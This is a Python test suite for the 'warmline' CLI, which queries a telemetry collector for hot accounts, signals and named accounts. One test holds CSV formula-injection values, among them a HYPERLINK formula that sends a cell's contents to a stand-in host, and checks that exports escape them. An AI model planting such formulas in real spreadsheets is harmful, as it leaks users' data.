"""The warmline CLI's API commands (hot, account, signals, named-accounts)
against a real collector: a small history imported with `warmline import`,
the collector started on it, then build/warmline run as a user would, its
output checked against the API's own JSON and the signals on disk.

Nothing here skips: when an API endpoint is missing the tests fail, naming
the request that went wrong."""

import csv
import fcntl
import hashlib
import io
import json
import os
import pty
import re
import secrets
import select
import shutil
import signal
import socket
import struct
import subprocess
import tempfile
import termios
import time
import unittest
import urllib.error
import urllib.request

from harness import (CLI_BIN, DEFAULT_INI, LOCALHOST, CollectorCase, as_int, dump_any,
                     have_cli, make_ping, now_ms, org_key_hex, render_ini, run_import)

MINUTE = 60 * 1000
HOUR = 60 * MINUTE
DAY = 24 * HOUR
N_DAYS = 20
BASE = now_ms() // DAY * DAY - N_DAYS * DAY   # day 0 of the history; day 19 is yesterday
CLI_TIMEOUT = 30

I_KEY = hashlib.sha256(b"warmline cli test initech").hexdigest()  # given as a hex org_key
ACME_NAME = "Acm\u00e9 \u00dcn\u00efcode Corp"  # not ASCII: widths count code points


def at(day, minute):
    return BASE + day * DAY + 10 * HOUR + minute * MINUTE


# The history (bundled rules). Every install pings daily at 10:00 + minute.
#  acme.example   a1 days 0-19, 30 monthly users      day 0  mau_over_25
#                 a2 days 5-19, saml from day 10       day 5  second_install
#                                                      day 10 sso_interest
#  globex.example g1 days 0-19, 6 teams                day 0  teams_5
#  I_KEY (hex)    i1 days 0-19, enterprise from day 3  day 3  enterprise_edition_unlicensed
#  install:solo1  solo1 days 0-19, 20 monthly users    (none; a live ping with 40 fires
#                                                       mau_over_25)
COMMON = dict(registered_users=40, active_users_daily=5, public_channels=4,
              private_channels=1, posts=500, teams=1)
INSTALLS = [
    ("a1", ("org_domain", "acme.example"), 0, range(0, N_DAYS),
     lambda d: dict(active_users_monthly=30)),
    ("a2", ("org_domain", "acme.example"), 1, range(5, N_DAYS),
     lambda d: dict(active_users_monthly=10,
                    features=["saml_configured"] if d >= 10 else [])),
    ("g1", ("org_domain", "globex.example"), 10, range(0, N_DAYS),
     lambda d: dict(active_users_monthly=10, teams=6)),
    ("i1", ("org_key", I_KEY), 30, range(0, N_DAYS),
     lambda d: dict(active_users_monthly=5, edition="enterprise" if d >= 3 else "team")),
    ("solo1", None, 40, range(0, N_DAYS), lambda d: dict(active_users_monthly=20)),
]
# (org letter, rule, fired_at) in id order.
EXPECTED = [
    ("acme", "mau_over_25", at(0, 0)),
    ("globex", "teams_5", at(0, 10)),
    ("initech", "enterprise_edition_unlicensed", at(3, 30)),
    ("acme", "second_install", at(5, 1)),
    ("acme", "sso_interest", at(10, 1)),
]

NAMED_CSV = ("domain,name,owner\r\n"
             "acme.example,%s,jane@example.com\r\n"
             "globex.example,Globex,\"Hank Scorpio, Jr.\"\r\n" % ACME_NAME)


def history_pings():
    out = []
    for install, org, minute, days, counts in INSTALLS:
        for d in days:
            p = dict(install_id=install, seq=d + 1, sent_at=at(d, minute), version="9.11.2",
                     edition="team", database_type="postgres", operating_system="linux",
                     installation_type="docker")
            p.update(COMMON)
            p.update(counts(d))
            if org is not None:
                p[org[0]] = org[1]
            out.append(p)
    out.sort(key=lambda p: p["sent_at"])
    return out


def closed_port():
    """A loopback port nothing listens on (bound, then released)."""
    with socket.socket() as s:
        s.bind((LOCALHOST, 0))
        return s.getsockname()[1]


def cli_env(token=None):
    env = {k: v for k, v in os.environ.items() if k != "WARMLINE_TOKEN"}
    if token is not None:
        env["WARMLINE_TOKEN"] = token
    return env


def run_cli(*args, token=None, timeout=CLI_TIMEOUT):
    """build/warmline ARGS; the CompletedProcess (text), whatever its exit code."""
    r = subprocess.run([CLI_BIN] + list(args), stdin=subprocess.DEVNULL,
                       capture_output=True, timeout=timeout, env=cli_env(token))
    # Decoded by hand: text=True would turn CSV's CRLF into LF.
    r.stdout = r.stdout.decode("utf-8")
    r.stderr = r.stderr.decode("utf-8", "replace")
    return r


def run_cli_tty(*args, columns=200, timeout=CLI_TIMEOUT):
    """build/warmline ARGS with stdout on a pseudo-terminal COLUMNS wide;
    (exit code, stdout text without CRs, stderr text)."""
    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 50, columns, 0, 0))
    try:
        p = subprocess.Popen([CLI_BIN] + list(args), stdin=subprocess.DEVNULL, stdout=slave,
                             stderr=subprocess.PIPE, env=cli_env())
    finally:
        os.close(slave)
    out = bytearray()
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            r, _, _ = select.select([master], [], [], 0.2)
            if r:
                try:
                    chunk = os.read(master, 65536)
                except OSError:  # EIO: the terminal's last writer closed it
                    break
                if not chunk:
                    break
                out += chunk
            elif p.poll() is not None:
                break
        rc = p.wait(timeout=max(1.0, deadline - time.monotonic()))
        err = p.stderr.read().decode("utf-8", "replace")
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
        p.stderr.close()
        os.close(master)
    return rc, out.decode("utf-8", "replace").replace("\r\n", "\n"), err


def json_lines(text):
    return [json.loads(l) for l in text.splitlines() if l.strip()]


def cells(line):
    """[(start, end, text)] of a table line's cells: runs of text separated by
    two or more spaces. Offsets count code points (Python str)."""
    return [(m.start(), m.end(), m.group()) for m in re.finditer(r"\S+(?: \S+)*", line)]


def assert_close(tc, got, want, path="$"):
    """got == want, except that reals only need to agree to 1e-6 (relative):
    decaying scores move between two requests."""
    if isinstance(want, float) or isinstance(got, float):
        tc.assertIsInstance(got, (int, float), path)
        tc.assertLessEqual(abs(got - want), 1e-6 * max(abs(want), 1e-300) + 1e-300,
                           "%s: %r vs %r" % (path, got, want))
    elif isinstance(want, dict):
        tc.assertIsInstance(got, dict, path)
        tc.assertEqual(list(got), list(want), "%s: keys (in order)" % path)
        for k in want:
            assert_close(tc, got[k], want[k], "%s.%s" % (path, k))
    elif isinstance(want, list):
        tc.assertIsInstance(got, list, path)
        tc.assertEqual(len(got), len(want), "%s: length" % path)
        for i, (g, w) in enumerate(zip(got, want)):
            assert_close(tc, g, w, "%s[%d]" % (path, i))
    else:
        tc.assertEqual(got, want, path)


class ApiCase(CollectorCase):
    """A collector with the history imported, started with its API on an
    ephemeral loopback port (no tokens unless a test builds its own)."""

    def setUp(self):
        super().setUp()
        if not have_cli():
            self.fail("%s is missing: build first" % CLI_BIN)
        self.tmp = tempfile.mkdtemp(prefix="wl-cli-")
        self.addCleanup(shutil.rmtree, self.tmp, True)

    def start_collector(self, options=None):
        c = self.collector(options=options, start=False)
        path = os.path.join(c.root, "history.ndjson")
        with open(path, "w") as f:
            for p in history_pings():
                f.write(json.dumps(p) + "\n")
        r = run_import(path, c.data_dir, org_salt_file=c.salt_path)
        self.assertEqual(r.returncode, 0, "import: exit %d\n%s" % (r.returncode, r.stderr))
        c.start()
        self.assertIsNotNone(c.api_port, "the collector's ready line has no api=HOST:PORT")
        self.orgs = {"acme": org_key_hex(c.org_salt, "acme.example"),
                     "globex": org_key_hex(c.org_salt, "globex.example"),
                     "initech": I_KEY, "solo": "install:solo1"}
        self.url = "http://%s:%d" % (LOCALHOST, c.api_port)
        return c

    def api(self, path, method="GET", body=None, token=None, ctype=None):
        """(status, parsed JSON or None) of a request to the API."""
        req = urllib.request.Request(self.url + path, data=body, method=method)
        if token is not None:
            req.add_header("Authorization", "Bearer " + token)
        if ctype is not None:
            req.add_header("Content-Type", ctype)
        try:
            with urllib.request.urlopen(req, timeout=10) as r:
                data = r.read()
                return r.status, (json.loads(data) if data else None)
        except urllib.error.HTTPError as e:
            data = e.read()
            try:
                return e.code, json.loads(data)
            except ValueError:
                return e.code, data

    def api_ok(self, path, token=None):
        status, doc = self.api(path, token=token)
        self.assertEqual(status, 200, "GET %s: HTTP %s %s (is the endpoint implemented?)"
                         % (path, status, doc))
        return doc

    def cli(self, *args, token=None, url=True, ok=True):
        """warmline ARGS --url <this collector>; with ok, checks exit 0."""
        argv = list(args) + (["--url", self.url] if url else [])
        r = run_cli(*argv, token=token)
        if ok:
            self.assertEqual(r.returncode, 0, "warmline %s: exit %d\nstderr: %s"
                             % (" ".join(args), r.returncode, r.stderr))
        return r

    def assert_aligned(self, text, right=(), left=()):
        """The table's header and rows agree on column edges: a right-aligned
        header ends where its cells end, a left-aligned one starts where they
        start (in code points)."""
        lines = [l for l in text.splitlines() if l.strip()]
        self.assertGreater(len(lines), 1, "a header and rows:\n" + text)
        head = {t: (s, e) for s, e, t in cells(lines[0])}
        for line in lines[1:]:
            row = cells(line)
            ends, starts = {e for _, e, _ in row}, {s for s, _, _ in row}
            for h in right:
                self.assertIn(head[h][1], ends, "column %r is not right-aligned in %r\n%s"
                              % (h, line, text))
            for h in left:
                self.assertIn(head[h][0], starts, "column %r is not left-aligned in %r\n%s"
                              % (h, line, text))


class Hot(ApiCase):

    def setUp(self):
        super().setUp()
        self.c = self.start_collector()

    def test_json_matches_the_api(self):
        want = self.api_ok("/v1/accounts/hot")
        r = self.cli("hot", "--json")
        got = json_lines(r.stdout)
        assert_close(self, got, want["accounts"])
        self.assertEqual([a["org"] for a in got][:3],
                         [self.orgs["acme"], self.orgs["initech"], self.orgs["globex"]],
                         "rank order of the history")
        self.assertEqual([a["rank"] for a in got], list(range(1, len(got) + 1)))
        # Filters reach the API as query parameters.
        for args, query in ((["--limit", "2"], "?limit=2"),
                            (["--rule", "teams_5"], "?rule=teams_5"),
                            (["--min-score", "1000"], "?min_score=1000")):
            with self.subTest(args=args):
                want = self.api_ok("/v1/accounts/hot" + query)["accounts"]
                assert_close(self, json_lines(self.cli("hot", "--json", *args).stdout), want)
        self.assertEqual(len(json_lines(self.cli("hot", "--json", "--limit", "2").stdout)), 2)
        self.assertEqual([a["org"] for a in
                          json_lines(self.cli("hot", "--json", "--rule", "teams_5").stdout)],
                         [self.orgs["globex"]])
        self.assertEqual(self.cli("hot", "--json", "--min-score", "1000").stdout, "")
        # pages by the cursor the last page printed, ranks going on, every account once
        everyone = [a["org"] for a in self.api_ok("/v1/accounts/hot?limit=1000")["accounts"]]
        seen, args = [], []
        while True:
            r = self.cli("hot", "--json", "--limit", "1", *args)
            page = json_lines(r.stdout)
            self.assertLessEqual(len(page), 1)
            seen += [a["org"] for a in page]
            self.assertEqual([a["rank"] for a in page], list(range(len(seen) - len(page) + 1,
                                                                   len(seen) + 1)))
            m = re.search(r"next page: --after (\S+)", r.stderr)
            if m is None:
                break
            args = ["--after", m.group(1)]
        self.assertEqual(seen, everyone)
        r = self.cli("hot", "--after", "not-a-cursor", ok=False)
        self.assertIn("after", r.stderr)

    def test_csv(self):
        want = self.api_ok("/v1/accounts/hot")["accounts"]
        r = self.cli("hot", "--csv")
        self.assertIn("\r\n", r.stdout, "RFC 4180 line ends")
        rows = list(csv.reader(io.StringIO(r.stdout, newline="")))
        self.assertEqual(rows[0], ["rank", "score", "org", "name", "domain", "owner", "installs",
                                   "installs_counting", "mau", "first_seen", "last_seen",
                                   "top_reasons"])
        self.assertEqual(len(rows) - 1, len(want))
        for row, a in zip(rows[1:], want):
            rec = dict(zip(rows[0], row))
            self.assertEqual(int(rec["rank"]), a["rank"])
            self.assertAlmostEqual(float(rec["score"]), a["score"],
                                   delta=1e-6 * abs(a["score"]) + 1e-12)
            self.assertEqual(rec["org"], a["org"], "csv prints the whole org id")
            self.assertEqual(rec["mau"], str(as_int(a["totals"]["active_users_monthly"])))
        acme = dict(zip(rows[0], rows[1]))
        self.assertEqual(acme["org"], self.orgs["acme"])
        self.assertEqual(set(acme["top_reasons"].split(", ")),
                         {"mau_over_25", "second_install", "sso_interest"})
        self.assertEqual(acme["installs"], "2")
        self.assertEqual(acme["mau"], "40")
        self.assertRegex(acme["last_seen"], r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$")

    def test_table_through_a_pipe(self):
        r = self.cli("hot")
        lines = r.stdout.splitlines()
        self.assertEqual([t for _, _, t in cells(lines[0])],
                         ["rank", "score", "org", "installs", "MAU", "last seen", "top reasons"])
        out = r.stdout
        for org in ("acme", "globex", "initech"):
            self.assertIn(self.orgs[org], out, "a pipe gets whole org ids")
        for _, rule, _ in EXPECTED:
            self.assertIn(rule, out)
        acme = [l for l in lines if self.orgs["acme"] in l][0]
        self.assertRegex(acme, r"^\s*1\s+\d+\.\d\s")
        self.assertIn(" 40 ", acme, "MAU of acme (a1 30 + a2 10)")
        self.assertNotIn("\u2026", out, "nothing is cut in a pipe")
        self.assert_aligned(out, right=("rank", "score", "installs"),
                            left=("org", "last seen"))
        self.assertEqual(len(self.cli("hot", "--limit", "1").stdout.splitlines()), 2)

    def test_table_on_a_terminal(self):
        rc, out, err = run_cli_tty("hot", "--url", self.url, columns=200)
        self.assertEqual(rc, 0, err)
        self.assertIn(self.orgs["acme"][:12] + "\u2026", out, "org ids shortened on a terminal")
        self.assertNotIn(self.orgs["acme"], out)
        self.assert_aligned(out, right=("rank", "score", "installs"), left=("org", "last seen"))
        rc, out, err = run_cli_tty("hot", "--url", self.url, columns=60)
        self.assertEqual(rc, 0, err)
        for line in out.splitlines():
            self.assertLessEqual(len(line), 60, "fits a 60-column terminal: %r" % line)
        self.assertIn("\u2026", out, "long cells cut with an ellipsis")

    def test_bad_since_and_options(self):
        r = self.cli("hot", "--since", "yesterday", ok=False)
        self.assertEqual(r.returncode, 2, r.stderr)
        self.assertIn("--since", r.stderr)
        r = self.cli("hot", "--json", "--since", "7d")
        self.assertEqual(r.returncode, 0, r.stderr)
        # A UTC date becomes unix ms: the same answer as the API given the ms.
        day4 = BASE + 4 * DAY
        date = time.strftime("%Y-%m-%d", time.gmtime(day4 / 1000))
        want = self.api_ok("/v1/accounts/hot?since=%d" % day4)["accounts"]
        assert_close(self, json_lines(self.cli("hot", "--json", "--since", date).stdout), want)
        self.assertIn(self.orgs["acme"], [a["org"] for a in want])


class Account(ApiCase):

    def setUp(self):
        super().setUp()
        self.c = self.start_collector()

    def test_by_hex(self):
        want = self.api_ok("/v1/accounts/" + I_KEY)
        got = json_lines(self.cli("account", I_KEY, "--json").stdout)
        self.assertEqual(len(got), 1)
        assert_close(self, got[0], want)
        self.assertEqual(got[0]["org"], I_KEY)
        out = self.cli("account", I_KEY).stdout
        for text in (I_KEY, "enterprise_edition_unlicensed", "i1", "enterprise", "team",
                     "9.11.2", "installs", "signals", "daily", "registered_users"):
            self.assertIn(text, out)
        self.assertIn("1 counting of 1", out)
        self.assertIn("private_channels", out)
        self.assertNotIn("bot_accounts", out, "zero totals are left out")

    def test_by_domain_and_days(self):
        got = json_lines(self.cli("account", "--domain", "acme.example", "--json").stdout)[0]
        self.assertEqual(got["org"], self.orgs["acme"])
        self.assertEqual(sorted(i["install_id"] for i in got["installs"]), ["a1", "a2"])
        self.assertEqual([s["rule"] for s in got["signals"]],
                         ["mau_over_25", "second_install", "sso_interest"])
        out = self.cli("account", "--domain", "acme.example").stdout
        for text in ("a1", "a2", "mau_over_25", "second_install", "sso_interest",
                     "saml_configured", "2 counting of 2"):
            self.assertIn(text, out)
        want = self.api_ok("/v1/accounts/domain%3Aacme.example?days=5")
        got = json_lines(self.cli("account", "--domain", "acme.example", "--days", "5",
                                  "--json").stdout)[0]
        assert_close(self, got, want)
        self.assertLessEqual(len(got["daily"]), 5)
        r = self.cli("account", "--domain", "acme.example", "--days", "5", "--csv")
        rows = list(csv.reader(io.StringIO(r.stdout, newline="")))
        self.assertEqual(rows[0][:3], ["date", "installs", "installs_total"])
        self.assertIn("active_users_monthly", rows[0])
        self.assertEqual([r[0] for r in rows[1:]], [d["date"] for d in want["daily"]])

    def test_install_id_and_unknown(self):
        for org in ("solo1", "install:solo1"):
            got = json_lines(self.cli("account", org, "--json").stdout)[0]
            self.assertEqual(got["org"], "install:solo1", org)
        got = json_lines(self.cli("account", "a2", "--json").stdout)[0]
        self.assertEqual(got["org"], self.orgs["acme"], "an install id names its organization")
        r = self.cli("account", "0" * 64, ok=False)
        self.assertEqual(r.returncode, 1, r.stderr)
        self.assertRegex(r.stderr, r"^warmline account: .*HTTP 404")
        r = self.cli("account", I_KEY, "--domain", "acme.example", ok=False)
        self.assertEqual(r.returncode, 2)


class Signals(ApiCase):

    def setUp(self):
        super().setUp()
        self.c = self.start_collector()

    def on_disk(self):
        return dump_any("signals", self.c.data_dir)

    def test_pages(self):
        disk = self.on_disk()
        self.assertEqual([(s["org"], s["rule"], as_int(s["fired_at"])) for s in disk],
                         [(self.orgs[o], rule, t) for o, rule, t in EXPECTED])
        want = self.api_ok("/v1/signals")
        got = json_lines(self.cli("signals", "--json").stdout)
        assert_close(self, got, want["signals"])
        self.assertEqual([as_int(s["id"]) for s in got], [1, 2, 3, 4, 5])
        for s, d in zip(got, disk):
            self.assertEqual({k: s.get(k) for k in ("id", "org", "rule", "weight", "fired_at",
                                                   "description", "ingest_seq")},
                             {k: d.get(k) for k in ("id", "org", "rule", "weight", "fired_at",
                                                   "description", "ingest_seq")})
        seen = []
        for after in (0, 2, 4):
            page = json_lines(self.cli("signals", "--json", "--after", str(after),
                                       "--limit", "2").stdout)
            self.assertEqual([as_int(s["id"]) for s in page],
                             [i for i in (after + 1, after + 2) if i <= 5], "after %d" % after)
            seen += page
        self.assertEqual(seen, got)
        self.assertEqual(self.cli("signals", "--json", "--after", "5").stdout, "")

        r = self.cli("signals", "--limit", "2")
        self.assertIn("mau_over_25", r.stdout)
        self.assertIn("teams_5", r.stdout)
        self.assertNotIn("second_install", r.stdout)
        self.assertIn("--after 2", r.stderr, "how to get the next page")
        rows = list(csv.reader(io.StringIO(self.cli("signals", "--csv").stdout, newline="")))
        self.assertEqual(rows[0], ["id", "fired_at", "org", "rule", "weight", "description",
                                   "install_ids", "ingest_seq"])
        self.assertEqual([r[3] for r in rows[1:]], [rule for _, rule, _ in EXPECTED])
        self.assertEqual(rows[1][2], self.orgs["acme"])

    def test_follow_until_sigint(self):
        p = subprocess.Popen([CLI_BIN, "signals", "--follow", "--interval", "0.2", "--json",
                              "--after", "5", "--url", self.url],
                             stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, env=cli_env())
        self.addCleanup(lambda: (p.poll() is None and p.kill(), p.wait(), p.stdout.close(),
                                 p.stderr.close()))
        time.sleep(0.5)  # let it poll once or twice with nothing new
        self.assertIsNone(p.poll(), "--follow ended by itself: %s" % (
            p.stderr.read().decode() if p.poll() is not None else ""))
        with self.client(self.c) as cl:
            self.assertAck(cl.request([make_ping("solo1", 1000, active_users_monthly=40)],
                                      batch_id=1), "OK", accepted=1)
        r, _, _ = select.select([p.stdout], [], [], 10)
        self.assertTrue(r, "no signal printed within 10 s of the ping")
        line = p.stdout.readline()
        s = json.loads(line)
        self.assertEqual((as_int(s["id"]), s["org"], s["rule"]),
                         (6, "install:solo1", "mau_over_25"))
        time.sleep(0.5)  # more polls: nothing printed twice
        p.send_signal(signal.SIGINT)
        try:
            rc = p.wait(timeout=5)
        except subprocess.TimeoutExpired:
            self.fail("--follow did not exit within 5 s of SIGINT")
        rest, err = p.stdout.read(), p.stderr.read()
        self.assertEqual(rc, 0, "exit after SIGINT: %d\n%s" % (rc, err.decode()))
        self.assertEqual(rest, b"", "printed again after the signal")


class NamedAccounts(ApiCase):
    """A collector with read and admin tokens."""

    def setUp(self):
        super().setUp()
        self.read_token, self.admin_token = secrets.token_hex(20), secrets.token_hex(20)
        self.read_file = os.path.join(self.tmp, "read.token")
        self.admin_file = os.path.join(self.tmp, "admin.token")
        with open(self.read_file, "w") as f:
            f.write(self.read_token + "\n")
        with open(self.admin_file, "w") as f:
            f.write(self.admin_token + "\n")
        self.c = self.start_collector({"read_token_file": self.read_file,
                                       "admin_token_file": self.admin_file})
        self.csv_path = os.path.join(self.tmp, "named.csv")
        with open(self.csv_path, "w", newline="") as f:
            f.write(NAMED_CSV)

    def assert_no_token(self, r):
        for tok in (self.read_token, self.admin_token):
            self.assertNotIn(tok, r.stdout + r.stderr, "a token was printed")

    def test_round_trip(self):
        admin = ("--token-file", self.admin_file)
        r = self.cli("named-accounts", "import", self.csv_path, *admin)
        self.assertIn("imported 2", r.stdout)
        r = self.cli("named-accounts", "list", "--json", *admin)
        got = {n["domain"]: n for n in json_lines(r.stdout)}
        self.assertEqual(set(got), {"acme.example", "globex.example"})
        self.assertEqual((got["acme.example"]["name"], got["acme.example"]["owner"],
                          got["acme.example"]["org"]),
                         (ACME_NAME, "jane@example.com", self.orgs["acme"]))
        self.assertEqual(got["globex.example"]["owner"], "Hank Scorpio, Jr.")
        want = self.api_ok("/v1/named-accounts", token=self.admin_token)["named_accounts"]
        self.assertEqual(json_lines(r.stdout), want)
        rows = list(csv.reader(io.StringIO(self.cli("named-accounts", "list", "--csv",
                                                    *admin).stdout, newline="")))
        self.assertEqual(rows[0], ["domain", "name", "owner", "org", "updated_at"])
        self.assertIn(["globex.example", "Globex", "Hank Scorpio, Jr.", self.orgs["globex"]],
                      [r[:4] for r in rows[1:]])

        # The environment variable works like --token-file.
        r = self.cli("named-accounts", "list", token=self.admin_token)
        self.assertIn(ACME_NAME, r.stdout)

        # hot and account show the names.
        hot = self.cli("hot", "--token-file", self.read_file).stdout
        self.assertIn(ACME_NAME, hot)
        self.assertIn("Globex", hot)
        self.assertNotIn(self.orgs["acme"], hot)
        self.assert_aligned(hot, right=("rank", "score", "installs"),
                            left=("org", "last seen"))
        acct = self.cli("account", "--domain", "acme.example", "--token-file",
                        self.read_file).stdout
        self.assertIn(ACME_NAME, acct)
        self.assertIn("jane@example.com", acct)

        # delete, then again: the second is the API's 404.
        r = self.cli("named-accounts", "delete", "globex.example", *admin)
        self.assertIn("deleted globex.example", r.stdout)
        r = self.cli("named-accounts", "list", "--json", *admin)
        self.assertEqual([n["domain"] for n in json_lines(r.stdout)], ["acme.example"])
        r = self.cli("named-accounts", "delete", "globex.example", *admin, ok=False)
        self.assertEqual(r.returncode, 1, r.stderr)
        self.assertRegex(r.stderr, r"^warmline named-accounts: .*HTTP 404")

        # An import replaces the list.
        other = os.path.join(self.tmp, "other.csv")
        with open(other, "w") as f:
            f.write("domain,name,owner\ninitech.example,Initech,bill@example.com\n")
        r = self.cli("named-accounts", "import", other, "--json", *admin)
        self.assertEqual(json_lines(r.stdout), [{"imported": 1, "removed": 1}])
        r = self.cli("named-accounts", "list", "--json", *admin)
        self.assertEqual([n["domain"] for n in json_lines(r.stdout)], ["initech.example"])

        # A file the API rejects: its message, exit 2.
        bad = os.path.join(self.tmp, "bad.csv")
        with open(bad, "w") as f:
            f.write("this is not,the header\n")
        r = self.cli("named-accounts", "import", bad, *admin, ok=False)
        self.assertEqual(r.returncode, 2, r.stderr)
        self.assertRegex(r.stderr, r"^warmline named-accounts: .*HTTP 400")

    def test_csv_formulas_escaped(self):
        """Names and owners from the CRM that a spreadsheet would run as
        formulas print in --csv with a leading quote; --json keeps them exact."""
        admin = ("--token-file", self.admin_file)
        evil = {"acme.example": ('=HYPERLINK("http://x.example/?"&A1,"Acme")', "@SUM(1+1)"),
                "globex.example": ("+Globex", "-2+3")}
        path = os.path.join(self.tmp, "evil.csv")
        with open(path, "w", newline="") as f:
            w = csv.writer(f, lineterminator="\r\n")
            w.writerow(["domain", "name", "owner"])
            for domain, (name, owner) in evil.items():
                w.writerow([domain, name, owner])
        self.cli("named-accounts", "import", path, *admin)
        got = {n["domain"]: (n["name"], n["owner"])
               for n in json_lines(self.cli("named-accounts", "list", "--json", *admin).stdout)}
        self.assertEqual(got, evil)
        out = self.cli("named-accounts", "list", "--csv", *admin).stdout
        rows = list(csv.reader(io.StringIO(out, newline="")))
        got = {r[0]: (r[1], r[2]) for r in rows[1:]}
        self.assertEqual(got, {d: ("'" + n, "'" + o) for d, (n, o) in evil.items()})
        rows = list(csv.reader(io.StringIO(self.cli("hot", "--csv", "--token-file",
                                                    self.read_file).stdout, newline="")))
        names = {r[rows[0].index("domain")]: r[rows[0].index("name")] for r in rows[1:]
                 if r[rows[0].index("domain")] in evil}
        self.assertEqual(names, {d: "'" + n for d, (n, _) in evil.items()})
        for r in rows[1:]:  # nothing in the file starts a formula
            for cell in r:
                self.assertNotIn(cell[:1], ("=", "+", "-", "@", "\t", "\r"), r)

    def test_tokens(self):
        wrong = os.path.join(self.tmp, "wrong.token")
        with open(wrong, "w") as f:
            f.write("x" * 40)
        for args, token in ((("hot", "--token-file", wrong), None),
                            (("hot",), "y" * 40),
                            (("named-accounts", "import", self.csv_path, "--token-file",
                              self.read_file), None)):
            with self.subTest(args=args, env=token is not None):
                r = self.cli(*args, token=token, ok=False)
                self.assertEqual(r.returncode, 1, r.stderr)
                self.assertIn("warmline %s: the token was refused" % args[0], r.stderr)
                self.assertIn("--token-file or WARMLINE_TOKEN", r.stderr)
                self.assert_no_token(r)
        r = self.cli("hot", ok=False)
        self.assertEqual(r.returncode, 1, r.stderr)
        self.assertIn("wants a token", r.stderr)
        self.assertIn("--token-file", r.stderr)
        for args in (("hot", "--token-file", self.read_file),
                     ("signals", "--token-file", self.read_file),
                     ("account", I_KEY, "--token-file", self.read_file)):
            with self.subTest(args=args):
                r = self.cli(*args)
                self.assert_no_token(r)
        r = self.cli("hot", "--json", token=self.read_token)
        self.assertGreater(len(json_lines(r.stdout)), 0)


class Offline(unittest.TestCase):
    """No collector: unreachable URLs and usage errors."""

    def setUp(self):
        if not have_cli():
            self.fail("%s is missing: build first" % CLI_BIN)
        self.tmp = tempfile.mkdtemp(prefix="wl-cli-")
        self.addCleanup(shutil.rmtree, self.tmp, True)

    def test_unreachable(self):
        port = closed_port()
        url = "http://%s:%d" % (LOCALHOST, port)
        for cmd in (["hot"], ["account", I_KEY], ["signals"], ["named-accounts", "list"]):
            with self.subTest(cmd=cmd[0]):
                r = run_cli(*cmd, "--url", url)
                self.assertEqual(r.returncode, 1, r.stderr)
                self.assertEqual(r.stderr, "warmline %s: cannot reach the collector at %s: "
                                 "Connection refused (is it running? see --url)\n"
                                 % (cmd[0], url))
                self.assertEqual(r.stdout, "")
        # The URL from the configuration: api_listen, 0.0.0.0 read as loopback.
        ini = os.path.join(self.tmp, "c.ini")
        with open(DEFAULT_INI) as f:
            text = render_ini(f.read(), {"api": {"api_listen": "0.0.0.0:%d" % port}})
        with open(ini, "w") as f:
            f.write(text)
        r = run_cli("hot", "--config", ini)
        self.assertEqual(r.returncode, 1, r.stderr)
        self.assertIn("cannot reach the collector at %s:" % url, r.stderr)

    def test_usage_errors(self):
        missing = os.path.join(self.tmp, "missing.token")
        for args in (["hot", "--limit", "x"], ["hot", "--bogus"], ["hot", "--json", "--csv"],
                     ["hot", "extra"], ["account"], ["account", "a", "b"],
                     ["signals", "--after", "-1"], ["signals", "--interval", "1"],
                     ["signals", "--follow", "--interval", "0"], ["named-accounts"],
                     ["named-accounts", "frob"], ["named-accounts", "delete"],
                     ["named-accounts", "import"], ["hot", "--url", "ftp://x"],
                     ["hot", "--token-file", missing],
                     ["named-accounts", "import", os.path.join(self.tmp, "none.csv")]):
            with self.subTest(args=args):
                url = [] if "--url" in args else ["--url", "http://%s:%d" % (LOCALHOST,
                                                                           closed_port())]
                r = run_cli(*args, *url)
                self.assertEqual(r.returncode, 2, "%s: %s" % (args, r.stderr))
                self.assertRegex(r.stderr, r"^warmline %s: " % args[0])
        for cmd in ("hot", "account", "signals", "named-accounts"):
            r = run_cli(cmd, "--help")
            self.assertEqual(r.returncode, 0)
            self.assertIn("WARMLINE_TOKEN", r.stdout)
            self.assertIn("Exit status", r.stdout)


if __name__ == "__main__":
    unittest.main()
